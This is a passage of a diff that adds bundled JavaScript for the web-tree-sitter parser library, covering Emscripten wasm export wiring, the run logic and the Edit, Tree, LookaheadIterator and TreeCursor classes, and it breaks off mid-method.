+          Module["_ts_tree_cursor_reset_wasm"] = _ts_tree_cursor_reset_wasm = wasmExports2["ts_tree_cursor_reset_wasm"];
+          Module["_ts_tree_cursor_reset_to_wasm"] = _ts_tree_cursor_reset_to_wasm = wasmExports2["ts_tree_cursor_reset_to_wasm"];
+          Module["_ts_tree_cursor_goto_first_child_wasm"] = _ts_tree_cursor_goto_first_child_wasm = wasmExports2["ts_tree_cursor_goto_first_child_wasm"];
+          Module["_ts_tree_cursor_goto_last_child_wasm"] = _ts_tree_cursor_goto_last_child_wasm = wasmExports2["ts_tree_cursor_goto_last_child_wasm"];
+          Module["_ts_tree_cursor_goto_first_child_for_index_wasm"] = _ts_tree_cursor_goto_first_child_for_index_wasm = wasmExports2["ts_tree_cursor_goto_first_child_for_index_wasm"];
+          Module["_ts_tree_cursor_goto_first_child_for_position_wasm"] = _ts_tree_cursor_goto_first_child_for_position_wasm = wasmExports2["ts_tree_cursor_goto_first_child_for_position_wasm"];
+          Module["_ts_tree_cursor_goto_next_sibling_wasm"] = _ts_tree_cursor_goto_next_sibling_wasm = wasmExports2["ts_tree_cursor_goto_next_sibling_wasm"];
+          Module["_ts_tree_cursor_goto_previous_sibling_wasm"] = _ts_tree_cursor_goto_previous_sibling_wasm = wasmExports2["ts_tree_cursor_goto_previous_sibling_wasm"];
+          Module["_ts_tree_cursor_goto_descendant_wasm"] = _ts_tree_cursor_goto_descendant_wasm = wasmExports2["ts_tree_cursor_goto_descendant_wasm"];
+          Module["_ts_tree_cursor_goto_parent_wasm"] = _ts_tree_cursor_goto_parent_wasm = wasmExports2["ts_tree_cursor_goto_parent_wasm"];
+          Module["_ts_tree_cursor_current_node_type_id_wasm"] = _ts_tree_cursor_current_node_type_id_wasm = wasmExports2["ts_tree_cursor_current_node_type_id_wasm"];
+          Module["_ts_tree_cursor_current_node_state_id_wasm"] = _ts_tree_cursor_current_node_state_id_wasm = wasmExports2["ts_tree_cursor_current_node_state_id_wasm"];
+          Module["_ts_tree_cursor_current_node_is_named_wasm"] = _ts_tree_cursor_current_node_is_named_wasm = wasmExports2["ts_tree_cursor_current_node_is_named_wasm"];
+          Module["_ts_tree_cursor_current_node_is_missing_wasm"] = _ts_tree_cursor_current_node_is_missing_wasm = wasmExports2["ts_tree_cursor_current_node_is_missing_wasm"];
+          Module["_ts_tree_cursor_current_node_id_wasm"] = _ts_tree_cursor_current_node_id_wasm = wasmExports2["ts_tree_cursor_current_node_id_wasm"];
+          Module["_ts_tree_cursor_start_position_wasm"] = _ts_tree_cursor_start_position_wasm = wasmExports2["ts_tree_cursor_start_position_wasm"];
+          Module["_ts_tree_cursor_end_position_wasm"] = _ts_tree_cursor_end_position_wasm = wasmExports2["ts_tree_cursor_end_position_wasm"];
+          Module["_ts_tree_cursor_start_index_wasm"] = _ts_tree_cursor_start_index_wasm = wasmExports2["ts_tree_cursor_start_index_wasm"];
+          Module["_ts_tree_cursor_end_index_wasm"] = _ts_tree_cursor_end_index_wasm = wasmExports2["ts_tree_cursor_end_index_wasm"];
+          Module["_ts_tree_cursor_current_field_id_wasm"] = _ts_tree_cursor_current_field_id_wasm = wasmExports2["ts_tree_cursor_current_field_id_wasm"];
+          Module["_ts_tree_cursor_current_depth_wasm"] = _ts_tree_cursor_current_depth_wasm = wasmExports2["ts_tree_cursor_current_depth_wasm"];
+          Module["_ts_tree_cursor_current_descendant_index_wasm"] = _ts_tree_cursor_current_descendant_index_wasm = wasmExports2["ts_tree_cursor_current_descendant_index_wasm"];
+          Module["_ts_tree_cursor_current_node_wasm"] = _ts_tree_cursor_current_node_wasm = wasmExports2["ts_tree_cursor_current_node_wasm"];
+          Module["_ts_node_symbol_wasm"] = _ts_node_symbol_wasm = wasmExports2["ts_node_symbol_wasm"];
+          Module["_ts_node_field_name_for_child_wasm"] = _ts_node_field_name_for_child_wasm = wasmExports2["ts_node_field_name_for_child_wasm"];
+          Module["_ts_node_field_name_for_named_child_wasm"] = _ts_node_field_name_for_named_child_wasm = wasmExports2["ts_node_field_name_for_named_child_wasm"];
+          Module["_ts_node_children_by_field_id_wasm"] = _ts_node_children_by_field_id_wasm = wasmExports2["ts_node_children_by_field_id_wasm"];
+          Module["_ts_node_first_child_for_byte_wasm"] = _ts_node_first_child_for_byte_wasm = wasmExports2["ts_node_first_child_for_byte_wasm"];
+          Module["_ts_node_first_named_child_for_byte_wasm"] = _ts_node_first_named_child_for_byte_wasm = wasmExports2["ts_node_first_named_child_for_byte_wasm"];
+          Module["_ts_node_grammar_symbol_wasm"] = _ts_node_grammar_symbol_wasm = wasmExports2["ts_node_grammar_symbol_wasm"];
+          Module["_ts_node_child_count_wasm"] = _ts_node_child_count_wasm = wasmExports2["ts_node_child_count_wasm"];
+          Module["_ts_node_named_child_count_wasm"] = _ts_node_named_child_count_wasm = wasmExports2["ts_node_named_child_count_wasm"];
+          Module["_ts_node_child_wasm"] = _ts_node_child_wasm = wasmExports2["ts_node_child_wasm"];
+          Module["_ts_node_named_child_wasm"] = _ts_node_named_child_wasm = wasmExports2["ts_node_named_child_wasm"];
+          Module["_ts_node_child_by_field_id_wasm"] = _ts_node_child_by_field_id_wasm = wasmExports2["ts_node_child_by_field_id_wasm"];
+          Module["_ts_node_next_sibling_wasm"] = _ts_node_next_sibling_wasm = wasmExports2["ts_node_next_sibling_wasm"];
+          Module["_ts_node_prev_sibling_wasm"] = _ts_node_prev_sibling_wasm = wasmExports2["ts_node_prev_sibling_wasm"];
+          Module["_ts_node_next_named_sibling_wasm"] = _ts_node_next_named_sibling_wasm = wasmExports2["ts_node_next_named_sibling_wasm"];
+          Module["_ts_node_prev_named_sibling_wasm"] = _ts_node_prev_named_sibling_wasm = wasmExports2["ts_node_prev_named_sibling_wasm"];
+          Module["_ts_node_descendant_count_wasm"] = _ts_node_descendant_count_wasm = wasmExports2["ts_node_descendant_count_wasm"];
+          Module["_ts_node_parent_wasm"] = _ts_node_parent_wasm = wasmExports2["ts_node_parent_wasm"];
+          Module["_ts_node_child_with_descendant_wasm"] = _ts_node_child_with_descendant_wasm = wasmExports2["ts_node_child_with_descendant_wasm"];
+          Module["_ts_node_descendant_for_index_wasm"] = _ts_node_descendant_for_index_wasm = wasmExports2["ts_node_descendant_for_index_wasm"];
+          Module["_ts_node_named_descendant_for_index_wasm"] = _ts_node_named_descendant_for_index_wasm = wasmExports2["ts_node_named_descendant_for_index_wasm"];
+          Module["_ts_node_descendant_for_position_wasm"] = _ts_node_descendant_for_position_wasm = wasmExports2["ts_node_descendant_for_position_wasm"];
+          Module["_ts_node_named_descendant_for_position_wasm"] = _ts_node_named_descendant_for_position_wasm = wasmExports2["ts_node_named_descendant_for_position_wasm"];
+          Module["_ts_node_start_point_wasm"] = _ts_node_start_point_wasm = wasmExports2["ts_node_start_point_wasm"];
+          Module["_ts_node_end_point_wasm"] = _ts_node_end_point_wasm = wasmExports2["ts_node_end_point_wasm"];
+          Module["_ts_node_start_index_wasm"] = _ts_node_start_index_wasm = wasmExports2["ts_node_start_index_wasm"];
+          Module["_ts_node_end_index_wasm"] = _ts_node_end_index_wasm = wasmExports2["ts_node_end_index_wasm"];
+          Module["_ts_node_to_string_wasm"] = _ts_node_to_string_wasm = wasmExports2["ts_node_to_string_wasm"];
+          Module["_ts_node_children_wasm"] = _ts_node_children_wasm = wasmExports2["ts_node_children_wasm"];
+          Module["_ts_node_named_children_wasm"] = _ts_node_named_children_wasm = wasmExports2["ts_node_named_children_wasm"];
+          Module["_ts_node_descendants_of_type_wasm"] = _ts_node_descendants_of_type_wasm = wasmExports2["ts_node_descendants_of_type_wasm"];
+          Module["_ts_node_is_named_wasm"] = _ts_node_is_named_wasm = wasmExports2["ts_node_is_named_wasm"];
+          Module["_ts_node_has_changes_wasm"] = _ts_node_has_changes_wasm = wasmExports2["ts_node_has_changes_wasm"];
+          Module["_ts_node_has_error_wasm"] = _ts_node_has_error_wasm = wasmExports2["ts_node_has_error_wasm"];
+          Module["_ts_node_is_error_wasm"] = _ts_node_is_error_wasm = wasmExports2["ts_node_is_error_wasm"];
+          Module["_ts_node_is_missing_wasm"] = _ts_node_is_missing_wasm = wasmExports2["ts_node_is_missing_wasm"];
+          Module["_ts_node_is_extra_wasm"] = _ts_node_is_extra_wasm = wasmExports2["ts_node_is_extra_wasm"];
+          Module["_ts_node_parse_state_wasm"] = _ts_node_parse_state_wasm = wasmExports2["ts_node_parse_state_wasm"];
+          Module["_ts_node_next_parse_state_wasm"] = _ts_node_next_parse_state_wasm = wasmExports2["ts_node_next_parse_state_wasm"];
+          Module["_ts_query_matches_wasm"] = _ts_query_matches_wasm = wasmExports2["ts_query_matches_wasm"];
+          Module["_ts_query_captures_wasm"] = _ts_query_captures_wasm = wasmExports2["ts_query_captures_wasm"];
+          Module["_memset"] = _memset = wasmExports2["memset"];
+          Module["_memcpy"] = _memcpy = wasmExports2["memcpy"];
+          Module["_memmove"] = _memmove = wasmExports2["memmove"];
+          Module["_iswalpha"] = _iswalpha = wasmExports2["iswalpha"];
+          Module["_iswblank"] = _iswblank = wasmExports2["iswblank"];
+          Module["_iswdigit"] = _iswdigit = wasmExports2["iswdigit"];
+          Module["_iswlower"] = _iswlower = wasmExports2["iswlower"];
+          Module["_iswpunct"] = _iswpunct = wasmExports2["iswpunct"];
+          Module["_iswupper"] = _iswupper = wasmExports2["iswupper"];
+          Module["_iswxdigit"] = _iswxdigit = wasmExports2["iswxdigit"];
+          Module["_memchr"] = _memchr = wasmExports2["memchr"];
+          Module["_strcmp"] = _strcmp = wasmExports2["strcmp"];
+          Module["_strncat"] = _strncat = wasmExports2["strncat"];
+          Module["_strncpy"] = _strncpy = wasmExports2["strncpy"];
+          Module["_towlower"] = _towlower = wasmExports2["towlower"];
+          Module["_towupper"] = _towupper = wasmExports2["towupper"];
+          _setThrew = wasmExports2["setThrew"];
+          __emscripten_stack_restore = wasmExports2["_emscripten_stack_restore"];
+          __emscripten_stack_alloc = wasmExports2["_emscripten_stack_alloc"];
+          _emscripten_stack_get_current = wasmExports2["emscripten_stack_get_current"];
+          ___wasm_apply_data_relocs = wasmExports2["__wasm_apply_data_relocs"];
+        }
+        __name(assignWasmExports, "assignWasmExports");
+        var wasmImports = {
+          /** @export */
+          __heap_base: ___heap_base,
+          /** @export */
+          __indirect_function_table: wasmTable,
+          /** @export */
+          __memory_base: ___memory_base,
+          /** @export */
+          __stack_high: ___stack_high,
+          /** @export */
+          __stack_low: ___stack_low,
+          /** @export */
+          __stack_pointer: ___stack_pointer,
+          /** @export */
+          __table_base: ___table_base,
+          /** @export */
+          _abort_js: __abort_js,
+          /** @export */
+          emscripten_resize_heap: _emscripten_resize_heap,
+          /** @export */
+          fd_close: _fd_close,
+          /** @export */
+          fd_seek: _fd_seek,
+          /** @export */
+          fd_write: _fd_write,
+          /** @export */
+          memory: wasmMemory,
+          /** @export */
+          tree_sitter_log_callback: _tree_sitter_log_callback,
+          /** @export */
+          tree_sitter_parse_callback: _tree_sitter_parse_callback,
+          /** @export */
+          tree_sitter_progress_callback: _tree_sitter_progress_callback,
+          /** @export */
+          tree_sitter_query_progress_callback: _tree_sitter_query_progress_callback
+        };
+        function callMain(args2 = []) {
+          var entryFunction = resolveGlobalSymbol("main").sym;
+          if (!entryFunction) return;
+          args2.unshift(thisProgram);
+          var argc = args2.length;
+          var argv = stackAlloc((argc + 1) * 4);
+          var argv_ptr = argv;
+          args2.forEach((arg) => {
+            LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, stringToUTF8OnStack(arg));
+            argv_ptr += 4;
+          });
+          LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, 0);
+          try {
+            var ret = entryFunction(argc, argv);
+            exitJS(
+              ret,
+              /* implicit = */
+              true
+            );
+            return ret;
+          } catch (e) {
+            return handleException(e);
+          }
+        }
+        __name(callMain, "callMain");
+        function run(args2 = arguments_) {
+          if (runDependencies > 0) {
+            dependenciesFulfilled = run;
+            return;
+          }
+          preRun();
+          if (runDependencies > 0) {
+            dependenciesFulfilled = run;
+            return;
+          }
+          function doRun() {
+            Module["calledRun"] = true;
+            if (ABORT) return;
+            initRuntime();
+            preMain();
+            readyPromiseResolve?.(Module);
+            Module["onRuntimeInitialized"]?.();
+            var noInitialRun = Module["noInitialRun"] || false;
+            if (!noInitialRun) callMain(args2);
+            postRun();
+          }
+          __name(doRun, "doRun");
+          if (Module["setStatus"]) {
+            Module["setStatus"]("Running...");
+            setTimeout(() => {
+              setTimeout(() => Module["setStatus"](""), 1);
+              doRun();
+            }, 1);
+          } else {
+            doRun();
+          }
+        }
+        __name(run, "run");
+        var wasmExports;
+        wasmExports = await createWasm();
+        run();
+        if (runtimeInitialized) {
+          moduleRtn = Module;
+        } else {
+          moduleRtn = new Promise((resolve, reject) => {
+            readyPromiseResolve = resolve;
+            readyPromiseReject = reject;
+          });
+        }
+        return moduleRtn;
+      };
+    })();
+    if (typeof exports === "object" && typeof module === "object") {
+      module.exports = Module;
+      module.exports.default = Module;
+    } else if (typeof define === "function" && define["amd"])
+      define([], () => Module);
+  }
+});
+
+// src/index.ts
+var index_exports = {};
+__export(index_exports, {
+  CaptureQuantifier: () => CaptureQuantifier,
+  Edit: () => Edit,
+  LANGUAGE_VERSION: () => LANGUAGE_VERSION,
+  Language: () => Language,
+  LookaheadIterator: () => LookaheadIterator,
+  MIN_COMPATIBLE_VERSION: () => MIN_COMPATIBLE_VERSION,
+  Node: () => Node,
+  Parser: () => Parser,
+  Query: () => Query,
+  Tree: () => Tree,
+  TreeCursor: () => TreeCursor
+});
+module.exports = __toCommonJS(index_exports);
+
+// src/edit.ts
+var Edit = class {
+  static {
+    __name(this, "Edit");
+  }
+  /** The start position of the change. */
+  startPosition;
+  /** The end position of the change before the edit. */
+  oldEndPosition;
+  /** The end position of the change after the edit. */
+  newEndPosition;
+  /** The start index of the change. */
+  startIndex;
+  /** The end index of the change before the edit. */
+  oldEndIndex;
+  /** The end index of the change after the edit. */
+  newEndIndex;
+  constructor({
+    startIndex,
+    oldEndIndex,
+    newEndIndex,
+    startPosition,
+    oldEndPosition,
+    newEndPosition
+  }) {
+    this.startIndex = startIndex >>> 0;
+    this.oldEndIndex = oldEndIndex >>> 0;
+    this.newEndIndex = newEndIndex >>> 0;
+    this.startPosition = startPosition;
+    this.oldEndPosition = oldEndPosition;
+    this.newEndPosition = newEndPosition;
+  }
+  /**
+   * Edit a point and index to keep it in-sync with source code that has been edited.
+   *
+   * This function updates a single point's byte offset and row/column position
+   * based on an edit operation. This is useful for editing points without
+   * requiring a tree or node instance.
+   */
+  editPoint(point, index) {
+    let newIndex = index;
+    const newPoint = { ...point };
+    if (index >= this.oldEndIndex) {
+      newIndex = this.newEndIndex + (index - this.oldEndIndex);
+      const originalRow = point.row;
+      newPoint.row = this.newEndPosition.row + (point.row - this.oldEndPosition.row);
+      newPoint.column = originalRow === this.oldEndPosition.row ? this.newEndPosition.column + (point.column - this.oldEndPosition.column) : point.column;
+    } else if (index > this.startIndex) {
+      newIndex = this.newEndIndex;
+      newPoint.row = this.newEndPosition.row;
+      newPoint.column = this.newEndPosition.column;
+    }
+    return { point: newPoint, index: newIndex };
+  }
+  /**
+   * Edit a range to keep it in-sync with source code that has been edited.
+   *
+   * This function updates a range's start and end positions based on an edit
+   * operation. This is useful for editing ranges without requiring a tree
+   * or node instance.
+   */
+  editRange(range) {
+    const newRange = {
+      startIndex: range.startIndex,
+      startPosition: { ...range.startPosition },
+      endIndex: range.endIndex,
+      endPosition: { ...range.endPosition }
+    };
+    if (range.endIndex >= this.oldEndIndex) {
+      if (range.endIndex !== Number.MAX_SAFE_INTEGER) {
+        newRange.endIndex = this.newEndIndex + (range.endIndex - this.oldEndIndex);
+        newRange.endPosition = {
+          row: this.newEndPosition.row + (range.endPosition.row - this.oldEndPosition.row),
+          column: range.endPosition.row === this.oldEndPosition.row ? this.newEndPosition.column + (range.endPosition.column - this.oldEndPosition.column) : range.endPosition.column
+        };
+        if (newRange.endIndex < this.newEndIndex) {
+          newRange.endIndex = Number.MAX_SAFE_INTEGER;
+          newRange.endPosition = { row: Number.MAX_SAFE_INTEGER, column: Number.MAX_SAFE_INTEGER };
+        }
+      }
+    } else if (range.endIndex > this.startIndex) {
+      newRange.endIndex = this.startIndex;
+      newRange.endPosition = { ...this.startPosition };
+    }
+    if (range.startIndex >= this.oldEndIndex) {
+      newRange.startIndex = this.newEndIndex + (range.startIndex - this.oldEndIndex);
+      newRange.startPosition = {
+        row: this.newEndPosition.row + (range.startPosition.row - this.oldEndPosition.row),
+        column: range.startPosition.row === this.oldEndPosition.row ? this.newEndPosition.column + (range.startPosition.column - this.oldEndPosition.column) : range.startPosition.column
+      };
+      if (newRange.startIndex < this.newEndIndex) {
+        newRange.startIndex = Number.MAX_SAFE_INTEGER;
+        newRange.startPosition = { row: Number.MAX_SAFE_INTEGER, column: Number.MAX_SAFE_INTEGER };
+      }
+    } else if (range.startIndex > this.startIndex) {
+      newRange.startIndex = this.startIndex;
+      newRange.startPosition = { ...this.startPosition };
+    }
+    return newRange;
+  }
+};
+
+// src/constants.ts
+var SIZE_OF_SHORT = 2;
+var SIZE_OF_INT = 4;
+var SIZE_OF_CURSOR = 4 * SIZE_OF_INT;
+var SIZE_OF_NODE = 5 * SIZE_OF_INT;
+var SIZE_OF_POINT = 2 * SIZE_OF_INT;
+var SIZE_OF_RANGE = 2 * SIZE_OF_INT + 2 * SIZE_OF_POINT;
+var ZERO_POINT = { row: 0, column: 0 };
+var INTERNAL = /* @__PURE__ */ Symbol("INTERNAL");
+function assertInternal(x) {
+  if (x !== INTERNAL) throw new Error("Illegal constructor");
+}
+__name(assertInternal, "assertInternal");
+function isPoint(point) {
+  return !!point && typeof point.row === "number" && typeof point.column === "number";
+}
+__name(isPoint, "isPoint");
+function setModule(module2) {
+  C = module2;
+}
+__name(setModule, "setModule");
+var C;
+
+// src/finalization_registry.ts
+function newFinalizer(handler) {
+  try {
+    return new FinalizationRegistry(handler);
+  } catch (e) {
+    console.error("Unsupported FinalizationRegistry:", e);
+    return;
+  }
+}
+__name(newFinalizer, "newFinalizer");
+
+// src/lookahead_iterator.ts
+var finalizer = newFinalizer((address) => {
+  C._ts_lookahead_iterator_delete(address);
+});
+var LookaheadIterator = class {
+  static {
+    __name(this, "LookaheadIterator");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  language;
+  /** @internal */
+  positioned = false;
+  /** @internal */
+  constructor(internal, address, language) {
+    assertInternal(internal);
+    this[0] = address;
+    this.language = language;
+    finalizer?.register(this, address, this);
+  }
+  /**
+   * Get the current symbol of the lookahead iterator.
+   *
+   * Returns `null` if the iterator is not positioned on a symbol:
+   *
+   * - Before the first iteration step
+   * - After the iterator is exhausted
+   * - After a {@link reset} or {@link resetState} call
+   */
+  get currentTypeId() {
+    return this.positioned ? C._ts_lookahead_iterator_current_symbol(this[0]) : null;
+  }
+  /**
+   * Get the current symbol name of the lookahead iterator.
+   *
+   * Returns `null` if the iterator is not positioned on a symbol.
+   */
+  get currentType() {
+    const id = this.currentTypeId;
+    if (id === null) return null;
+    return this.language.types[id] ?? C.UTF8ToString(C._ts_language_symbol_name(this.language[0], id));
+  }
+  /** Delete the lookahead iterator, freeing its resources. */
+  delete() {
+    finalizer?.unregister(this);
+    C._ts_lookahead_iterator_delete(this[0]);
+    this[0] = 0;
+  }
+  /**
+   * Reset the lookahead iterator.
+   *
+   * This returns `true` if the language was set successfully and `false`
+   * otherwise.
+   */
+  reset(language, stateId) {
+    if (C._ts_lookahead_iterator_reset(this[0], language[0], stateId)) {
+      this.language = language;
+      this.positioned = false;
+      return true;
+    }
+    return false;
+  }
+  /**
+   * Reset the lookahead iterator to another state.
+   *
+   * This returns `true` if the iterator was reset to the given state and
+   * `false` otherwise.
+   */
+  resetState(stateId) {
+    if (!C._ts_lookahead_iterator_reset_state(this[0], stateId)) return false;
+    this.positioned = false;
+    return true;
+  }
+  /**
+   * Returns an iterator that iterates over the symbols of the lookahead iterator.
+   *
+   * The iterator will yield the current symbol name as a string for each step
+   * until there are no more symbols to iterate over.
+   */
+  [Symbol.iterator]() {
+    return {
+      next: /* @__PURE__ */ __name(() => {
+        this.positioned = Boolean(C._ts_lookahead_iterator_next(this[0]));
+        const value = this.currentType;
+        return value === null ? { done: true, value: "" } : { done: false, value };
+      }, "next")
+    };
+  }
+};
+
+// src/tree.ts
+function getText(tree, startIndex, endIndex, startPosition) {
+  const length = endIndex - startIndex;
+  let result = tree.textCallback(startIndex, startPosition);
+  if (result) {
+    startIndex += result.length;
+    while (startIndex < endIndex) {
+      const string = tree.textCallback(startIndex, startPosition);
+      if (string && string.length > 0) {
+        startIndex += string.length;
+        result += string;
+      } else {
+        break;
+      }
+    }
+    if (startIndex > endIndex) {
+      result = result.slice(0, length);
+    }
+  }
+  return result ?? "";
+}
+__name(getText, "getText");
+var finalizer2 = newFinalizer((address) => {
+  C._ts_tree_delete(address);
+});
+var Tree = class _Tree {
+  static {
+    __name(this, "Tree");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  textCallback;
+  /** The language that was used to parse the syntax tree. */
+  language;
+  /** @internal */
+  constructor(internal, address, language, textCallback) {
+    assertInternal(internal);
+    this[0] = address;
+    this.language = language;
+    this.textCallback = textCallback;
+    finalizer2?.register(this, address, this);
+  }
+  /** Create a shallow copy of the syntax tree. This is very fast. */
+  copy() {
+    const address = C._ts_tree_copy(this[0]);
+    return new _Tree(INTERNAL, address, this.language, this.textCallback);
+  }
+  /** Delete the syntax tree, freeing its resources. */
+  delete() {
+    finalizer2?.unregister(this);
+    C._ts_tree_delete(this[0]);
+    this[0] = 0;
+  }
+  /** Get the root node of the syntax tree. */
+  get rootNode() {
+    C._ts_tree_root_node_wasm(this[0]);
+    return unmarshalNode(this);
+  }
+  /**
+   * Get the root node of the syntax tree, but with its position shifted
+   * forward by the given offset.
+   */
+  rootNodeWithOffset(offsetBytes, offsetExtent) {
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, offsetBytes, "i32");
+    marshalPoint(address + SIZE_OF_INT, offsetExtent);
+    C._ts_tree_root_node_with_offset_wasm(this[0]);
+    return unmarshalNode(this);
+  }
+  /**
+   * Edit the syntax tree to keep it in sync with source code that has been
+   * edited.
+   *
+   * You must describe the edit both in terms of byte offsets and in terms of
+   * row/column coordinates.
+   */
+  edit(edit) {
+    marshalEdit(edit);
+    C._ts_tree_edit_wasm(this[0]);
+  }
+  /** Create a new {@link TreeCursor} starting from the root of the tree. */
+  walk() {
+    return this.rootNode.walk();
+  }
+  /**
+   * Compare this old edited syntax tree to a new syntax tree representing
+   * the same document, returning a sequence of ranges whose syntactic
+   * structure has changed.
+   *
+   * For this to work correctly, this syntax tree must have been edited such
+   * that its ranges match up to the new tree. Generally, you'll want to
+   * call this method right after calling one of the [`Parser::parse`]
+   * functions. Call it on the old tree that was passed to parse, and
+   * pass the new tree that was returned from `parse`.
+   */
+  getChangedRanges(other) {
+    if (!(other instanceof _Tree)) {
+      throw new TypeError("Argument must be a Tree");
+    }
+    C._ts_tree_get_changed_ranges_wasm(this[0], other[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalRange(address);
+        address += SIZE_OF_RANGE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+  /** Get the included ranges that were used to parse the syntax tree. */
+  getIncludedRanges() {
+    C._ts_tree_included_ranges_wasm(this[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalRange(address);
+        address += SIZE_OF_RANGE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+};
+
+// src/tree_cursor.ts
+var finalizer3 = newFinalizer((handles) => {
+  marshalTreeCursor({ handles });
+  C._ts_tree_cursor_delete_wasm(0);
+});
+var TreeCursor = class _TreeCursor {
+  static {
+    __name(this, "TreeCursor");
+  }
+  /** @internal */
+  handles = [0, 0, 0, 0];
+  // Internal handles for Wasm, shared with the finalizer.
+  /** @internal */
+  tree;
+  /** @internal */
+  constructor(internal, tree) {
+    assertInternal(internal);
+    this.tree = tree;
+    unmarshalTreeCursor(this);
+    finalizer3?.register(this, this.handles, this);
+  }
+  /** Creates a deep copy of the tree cursor. This allocates new memory. */
+  copy() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_copy_wasm(this.tree[0]);
+    return new _TreeCursor(INTERNAL, this.tree);
+  }
+  /** Delete the tree cursor, freeing its resources. */
+  delete() {
+    finalizer3?.unregister(this);
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_delete_wasm(this.tree[0]);
+    this.handles.fill(0);
+  }
+  /** Get the tree cursor's current {@link Node}. */
+  get currentNode() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_current_node_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get the numerical field id of this tree cursor's current node.
+   *
+   * See also {@link TreeCursor#currentFieldName}.
+   */
+  get currentFieldId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_field_id_wasm(this.tree[0]);
+  }
+  /** Get the field name of this tree cursor's current node. */
+  get currentFieldName() {
+    return this.tree.language.fields[this.currentFieldId];
+  }
+  /**
+   * Get the depth of the cursor's current node relative to the original
+   * node that the cursor was constructed with.
+   */
+  get currentDepth() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_depth_wasm(this.tree[0]);
+  }
+  /**
+   * Get the index of the cursor's current node out of all of the
+   * descendants of the original node that the cursor was constructed with.
+   */
+  get currentDescendantIndex() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_descendant_index_wasm(this.tree[0]);
+  }
+  /** Get the type of the cursor's current node. */
+  get nodeType() {
+    return this.tree.language.types[this.nodeTypeId] || "ERROR";
+  }
+  /** Get the type id of the cursor's current node. */
+  get nodeTypeId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_type_id_wasm(this.tree[0]);
+  }
+  /** Get the state id of the cursor's current node. */
+  get nodeStateId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_state_id_wasm(this.tree[0]);
+  }
+  /** Get the id of the cursor's current node. */
+  get nodeId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_id_wasm(this.tree[0]);
+  }
+  /**
+   * Check if the cursor's current node is *named*.
+   *
+   * Named nodes correspond to named rules in the grammar, whereas
+   * *anonymous* nodes correspond to string literals in the grammar.
+   */
+  get nodeIsNamed() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_is_named_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if the cursor's current node is *missing*.
+   *
+   * Missing nodes are inserted by the parser in order to recover from
+   * certain kinds of syntax errors.
+   */
+  get nodeIsMissing() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_is_missing_wasm(this.tree[0]) === 1;
+  }
+  /** Get the string content of the cursor's current node. */
+  get nodeText() {
+    marshalTreeCursor(this);
+    const startIndex = C._ts_tree_cursor_start_index_wasm(this.tree[0]);
+    const endIndex = C._ts_tree_cursor_end_index_wasm(this.tree[0]);
+    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
+    const startPosition = unmarshalPoint(TRANSFER_BUFFER);
+    return getText(this.tree, startIndex, endIndex, startPosition);
+  }
+  /** Get the start position of the cursor's current node. */
+  get startPosition() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
+    return unmarshalPoint(TRANSFER_BUFFER);
+  }
+  /** Get the end position of the cursor's current node. */
+  get endPosition() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_end_position_wasm(this.tree[0]);
+    return unmarshalPoint(TRANSFER_BUFFER);
+  }
+  /** Get the start index of the cursor's current node. */
+  get startIndex() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_start_index_wasm(this.tree[0]);
+  }
+  /** Get the end index of the cursor's current node. */
+  get endIndex() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_end_index_wasm(this.tree[0]);
+  }
+  /**
+   * Move this cursor to the first child of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there were no children.
+   */
+  gotoFirstChild() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_first_child_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the last child of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there were no children.
+   *
+   * Note that this function may be slower than
+   * {@link TreeCursor#gotoFirstChild} because it needs to
+   * iterate through all the children to compute the child's position.
+   */
+  gotoLastChild() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_last_child_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the parent of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there was no parent node (the cursor was already on the
+   * root node).
+   *
+   * Note that the node the cursor was constructed with is considered the root
+   * of the cursor, and the cursor cannot walk outside this node.
+   */
+  gotoParent() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_parent_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
